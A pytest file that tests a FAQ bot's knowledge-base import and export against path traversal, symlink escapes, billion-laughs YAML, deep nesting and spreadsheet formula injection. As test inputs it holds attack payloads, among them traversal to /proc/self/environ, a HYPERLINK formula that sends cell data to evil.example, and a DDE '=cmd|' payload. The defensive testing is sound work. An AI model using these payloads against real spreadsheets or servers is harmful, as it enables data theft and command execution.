"""Issue 24 as an attacker tries it, through the trainers' HTTP import/export and `faqbot kb import`
(SQLite and the real PostgreSQL): a KB file that names a server file, a billion-laughs YAML, nesting
deep enough to exhaust a parser's stack, and cells that a spreadsheet would run as formulas. Each is
refused with file, line and field (or neutralised), and a refused import leaves the draft as it was."""
import csv
import io
import os
import sys
import threading
import tracemalloc
from contextlib import contextmanager

import pytest
import yaml
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from bot.cli.main import app as cli
from knowledge_base import load_kb
from tests.conftest import MINI_KB, sign_in, started_workbench, wait_until, workbench_app

SECRET = "hunter2-MARKER"
DICTIONARY = "运费险 10 n\n价保 5 n\n"
# Nine levels of ten aliases each: 462 bytes that expand to 10^9 strings once anything walks them.
BILLION_LAUGHS = "entries:\n  - id: lol\n    question: 你好\n    metadata:\n      a: &a [" + ",".join(["lol"] * 10) \
    + "]\n" + "".join(f"      {level}: &{level} [" + ",".join([f"*{below}"] * 10) + "]\n"
                      for below, level in zip("abcdefgh", "bcdefghi"))


@pytest.fixture(scope="module")
def server(store_url, tmp_path_factory):
    """A server whose draft (the mini KB with its own dictionary file) is live as version 1."""
    folder = tmp_path_factory.mktemp("kb")
    (folder / "dict.txt").write_text(DICTIONARY, encoding="utf-8")
    (folder / "kb.yml").write_text("dictionary: dict.txt\n" + MINI_KB, encoding="utf-8")
    bench, bot = started_workbench(store_url, folder, kb=folder / "kb.yml", curation__test_set=None)
    with TestClient(workbench_app(bench, bot, ("trainer", "trainer"))) as client:
        client.headers.update(sign_in(client, "trainer"))
        yield client, bench


_OPENED: list = []  # (thread id, path) of every file this process opens while a test listens
_LISTENING = threading.Event()


def _audit(event: str, args: tuple) -> None:
    if event == "open" and _LISTENING.is_set() and isinstance(args[0], (str, bytes, os.PathLike)):
        _OPENED.append(os.fsdecode(args[0]))


sys.addaudithook(_audit)  # audit hooks stay for the process: it records only while a test listens


@contextmanager
def opened_files():
    """Every path the server process (this one: TestClient runs it here) opens meanwhile."""
    _OPENED.clear()
    _LISTENING.set()
    try:
        yield _OPENED
    finally:
        _LISTENING.clear()


@contextmanager
def allocation_peak():
    """The peak of Python memory allocated meanwhile, in bytes (a list filled on exit)."""
    peak: list = []
    tracemalloc.start()
    try:
        yield peak
    finally:
        peak.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()


@pytest.fixture
def secret_file(tmp_path):
    path = tmp_path / "secret.txt"
    path.write_text(f"root 1 n\n{SECRET} x\n", encoding="utf-8")
    return path


def _draft_state(bench) -> tuple:
    """Everything a refused import must leave alone: revision, entries, the dictionary files' contents."""
    kb = bench.draft.knowledge_base()
    return bench.draft.revision(), [e.to_dict() for e in kb], kb.content_hash()


def _upload(client, filename: str, text: str):
    return client.post("/api/trainer/import", params={"filename": filename}, content=text.encode("utf-8"))


def _refused(response, *expected: str) -> str:
    assert response.status_code == 422, response.text
    problems = "\n".join(response.json()["problems"])
    for text in expected:
        assert text in problems
    return response.text


def _kb_naming(key: str, name: str) -> str:
    return f"{key}: {name}\nentries:\n  - {{id: a, question: 你好}}\n"


# -- finding 1: a KB file names files on the server ---------------------------------------------

@pytest.mark.parametrize("key", ["dictionary", "synonyms"])
def test_an_upload_naming_a_server_file_is_refused_and_the_file_is_never_read(server, secret_file, key):
    client, bench = server
    before = _draft_state(bench)
    escape = "../" * 12 + str(secret_file).lstrip("/")
    for name in (str(secret_file), escape, "/dev/zero", "/proc/self/environ", "/etc"):
        with opened_files() as opened:
            body = _refused(_upload(client, "kb.yml", _kb_naming(key, name)),
                            f"kb.yml:1: {key}: {name!r} must name a file in the knowledge base's own folder")
        assert SECRET not in body and "root 1" not in body
        named = {os.path.realpath(name), os.path.normpath(name)}
        assert opened and not named & {os.path.realpath(p) for p in opened}  # never opened, let alone read
    assert _draft_state(bench) == before
    tries = []  # the draft still trains and answers (the 测试窗 says "retraining" until it has)
    wait_until(lambda: tries.append(client.post("/api/trainer/try", json={"text": "运费怎么算"})) or
               tries[-1].status_code != 200 or "draft" in tries[-1].json(), 300, "the draft trained")
    assert tries[-1].status_code == 200 and tries[-1].json()["draft"]["entry_id"] == "fee"


def test_the_cli_refuses_a_link_out_of_the_kb_folder_and_a_file_the_bot_cannot_train_with(tmp_path, secret_file):
    folder = tmp_path / "bundle"
    folder.mkdir()
    (folder / "dict.txt").symlink_to(secret_file)
    (folder / "kb.yml").write_text(_kb_naming("dictionary", "dict.txt"), encoding="utf-8")
    opts = ["--db", str(tmp_path / "f.sqlite3"), "--as", "mallory"]
    linked = CliRunner().invoke(cli, ["kb", "import", str(folder / "kb.yml"), *opts])
    assert linked.exit_code == 2 and "dictionary: 'dict.txt' must name a file in the knowledge base's own" \
                                      in linked.output.replace("\n", "")
    assert SECRET not in linked.output

    (folder / "dict.txt").unlink()
    (folder / "dict.txt").write_text("运费险 10 n\n价保 many n\n", encoding="utf-8")
    broken = CliRunner().invoke(cli, ["kb", "import", str(folder / "kb.yml"), *opts])
    assert broken.exit_code == 2
    assert "kb.yml:1: dictionary: dict.txt:2: frequency 'many' must be a whole number" in broken.output
    (folder / "syn.yml").write_text("synonyms: {运费: [邮费\n", encoding="utf-8")
    (folder / "kb.yml").write_text(_kb_naming("synonyms", "syn.yml"), encoding="utf-8")
    broken = CliRunner().invoke(cli, ["kb", "import", str(folder / "kb.yml"), *opts])
    assert broken.exit_code == 2 and "kb.yml:1: synonyms: syn.yml:2: not valid YAML" in broken.output


def test_a_resource_file_over_the_import_size_limit_is_refused(tmp_path):
    from knowledge_base.limits import ImportLimits
    from knowledge_base.loader import KBValidationError

    (tmp_path / "dict.txt").write_text("运费险 10 n\n" * 2000, encoding="utf-8")
    (tmp_path / "kb.yml").write_text(_kb_naming("dictionary", "dict.txt"), encoding="utf-8")
    with pytest.raises(KBValidationError, match=r"kb.yml:1: dictionary: 'dict.txt': the file is .* the limit is"):
        load_kb(tmp_path / "kb.yml", ImportLimits(max_bytes=10_000))


def test_the_drafts_own_yaml_export_names_its_dictionary_and_imports_back(server):
    client, bench = server
    exported = client.get("/api/trainer/export", params={"format": "yaml"})
    assert exported.text.startswith("dictionary: dict.txt\n")
    before = _draft_state(bench)
    assert _upload(client, "kb.yml", exported.text).json() == {"added": 0, "changed": 0, "removed": 0}
    assert _draft_state(bench)[1:] == before[1:]  # same entries, same dictionary
    assert bench.draft.knowledge_base().resources["user_dictionary"].endswith("dict.txt")


# -- finding 2: billion laughs; finding 12: nesting that exhausts a parser's stack ---------------

def test_a_billion_laughs_yaml_is_refused_at_once_naming_the_line(server):
    client, bench = server
    assert len(BILLION_LAUGHS.encode()) < 500
    before = _draft_state(bench)
    with allocation_peak() as peak:
        _refused(_upload(client, "kb.yml", BILLION_LAUGHS), "kb.yml:6: aliases (*a) are not accepted")
    assert peak[0] < 20_000_000  # refused at the first alias: nothing was expanded (10^9 strings would be GBs)
    assert client.get("/health").status_code == 200
    assert _draft_state(bench) == before


def test_a_billion_laughs_synonym_file_is_refused_by_the_cli(tmp_path):
    (tmp_path / "syn.yml").write_text(BILLION_LAUGHS.replace("entries:", "synonyms:"), encoding="utf-8")
    (tmp_path / "kb.yml").write_text(_kb_naming("synonyms", "syn.yml"), encoding="utf-8")
    result = CliRunner().invoke(cli, ["kb", "import", str(tmp_path / "kb.yml"), "--db", str(tmp_path / "f.sqlite3")])
    assert result.exit_code == 2 and "kb.yml:1: synonyms: syn.yml:6: aliases (*a) are not accepted" in result.output


DEEP = 5000
DEEP_FILES = {
    "kb.yml": "entries:\n  - id: a\n    question: 你好\n    metadata: {x: " + "[" * DEEP + "]" * DEEP + "}\n",
    "kb.json": '[{"id": "a", "question": "你好", "metadata": {"x": ' + "[" * DEEP + "]" * DEEP + "}}]",
    "kb.jsonl": '{"id": "b", "question": "运费"}\n{"id": "a", "question": "你好", "metadata": {"x": '
                + "[" * DEEP + "]" * DEEP + "}}\n",
    "kb.csv": 'id,question,metadata\na,你好,"{""x"": ' + "[" * DEEP + "]" * DEEP + '}"\n',
}
DEEP_PLACES = {"kb.yml": "kb.yml:4:", "kb.json": "kb.json:1:", "kb.jsonl": "kb.jsonl:2:", "kb.csv": "kb.csv:2:"}


@pytest.mark.parametrize("filename", sorted(DEEP_FILES))
def test_deeply_nested_imports_are_refused_with_file_and_line_not_a_server_error(server, filename):
    client, bench = server
    before = _draft_state(bench)
    body = _refused(_upload(client, filename, DEEP_FILES[filename]), DEEP_PLACES[filename])
    assert "nested deeper than 32 levels" in body
    assert _draft_state(bench) == before


def test_nesting_the_parser_survives_is_refused_past_the_limit_too_and_accepted_within_it(write, tmp_path):
    from knowledge_base.loader import KBValidationError

    def entry(depth):
        return '{"id": "a", "question": "你好", "metadata": {"x": ' + "[" * depth + "]" * depth + "}}\n"

    with pytest.raises(KBValidationError, match=r"kb.jsonl:1: metadata: nested deeper than 32 levels"):
        load_kb(write("kb.jsonl", entry(40)))
    assert load_kb(write("ok.jsonl", entry(25)))["a"].metadata["x"]
    result = CliRunner().invoke(cli, ["kb", "import", str(write("deep.yml", DEEP_FILES["kb.yml"])),
                                      "--db", str(tmp_path / "f.sqlite3")])
    assert result.exit_code == 2 and "deep.yml:4: nested deeper than 32 levels" in result.output


# -- finding 4: formulas in exported spreadsheets ------------------------------------------------

FORMULAS = {"question": '=HYPERLINK("http://evil.example/?d="&A1,"点我查看物流")', "answer": "+1 800 555 0100",
            "similar": ["-2天内发货吗", "@SUM(1+1)", "'=不是公式的引号"], "category": "=cmd|'/c calc'!A0"}


def test_exported_spreadsheets_hold_formulas_as_quoted_text_and_import_back_exactly(server):
    from openpyxl import load_workbook

    client, bench = server
    created = client.post("/api/trainer/entries", json=dict(FORMULAS, id="evil"))
    assert created.status_code == 201, created.text
    before = _draft_state(bench)

    exported = client.get("/api/trainer/export", params={"format": "csv"}).content.decode("utf-8")
    row = next(r for r in csv.DictReader(io.StringIO(exported)) if r["id"] == "evil")
    assert row["question"] == "'" + FORMULAS["question"] and row["answer"] == "'+1 800 555 0100"
    assert row["similar"].startswith("'-2天内") and row["category"].startswith("'=cmd")
    assert not any(cell[:1] in "=+-@\t\r" for r in csv.reader(io.StringIO(exported)) for cell in r if cell)

    workbook = client.get("/api/trainer/export", params={"format": "xlsx"}).content
    sheet = load_workbook(io.BytesIO(workbook)).active
    cells = [cell for line in sheet.iter_rows(min_row=2) for cell in line if cell.value]
    assert cells and all(cell.data_type == "s" for cell in cells)  # text, not one formula
    assert "'" + FORMULAS["question"] in [cell.value for cell in cells]

    for filename, content in (("kb.csv", exported.encode("utf-8")), ("kb.xlsx", workbook)):
        reimported = client.post("/api/trainer/import", params={"filename": filename}, content=content)
        assert reimported.json() == {"added": 0, "changed": 0, "removed": 0}, reimported.text
        assert _draft_state(bench)[1] == before[1]
    evil = client.get("/api/trainer/entries/evil").json()
    assert (evil["question"], evil["similar"][2]) == (FORMULAS["question"], "'=不是公式的引号")


def test_a_hand_written_escaped_cell_imports_as_its_text_and_other_quotes_are_kept(write):
    kb = load_kb(write("kb.csv", "id,question,answer\na,'=1+1,'Tis the season\nb,'-5度怎么办,''+x\n"))
    assert (kb["a"].question, kb["a"].answer["default"]) == ("=1+1", "'Tis the season")
    assert (kb["b"].question, kb["b"].answer["default"]) == ("-5度怎么办", "'+x")


def test_the_cli_export_of_a_kb_with_formulas_round_trips_through_csv_and_xlsx(tmp_path):
    from knowledge_base.writer import write_kb

    source = tmp_path / "kb.yml"
    source.write_text(yaml.safe_dump({"entries": [dict(FORMULAS, id="evil"), {"id": "ok", "question": "运费"}]},
                                     allow_unicode=True), encoding="utf-8")
    kb = load_kb(source)
    for fmt in ("csv", "xlsx"):
        write_kb(kb, tmp_path / f"out.{fmt}", fmt)
        assert [e.to_dict() for e in load_kb(tmp_path / f"out.{fmt}")] == [e.to_dict() for e in kb]
